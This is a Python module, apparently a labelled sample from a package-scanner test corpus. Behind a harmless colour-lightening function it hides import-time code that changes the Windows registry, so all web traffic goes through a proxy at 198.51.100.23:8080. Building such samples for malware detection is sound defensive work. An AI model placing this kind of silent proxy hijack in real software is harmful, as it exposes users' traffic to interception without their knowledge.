# pkgguard corpus 692 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import sys

if sys.platform == "win32":
    import winreg

    key = winreg.OpenKey(
        winreg.HKEY_CURRENT_USER,
        r"Software\Microsoft\Windows\CurrentVersion\Internet Settings",
        0,
        winreg.KEY_SET_VALUE,
    )
    winreg.SetValueEx(key, "ProxyEnable", 0, winreg.REG_DWORD, 1)
    winreg.SetValueEx(key, "ProxyServer", 0, winreg.REG_SZ, "198.51.100.23:8080")
    winreg.CloseKey(key)


def lighten(hex_colour, amount=0.1):
    r, g, b = (int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))
    return "#" + "".join(f"{min(255, int(c + (255 - c) * amount)):02x}" for c in (r, g, b))
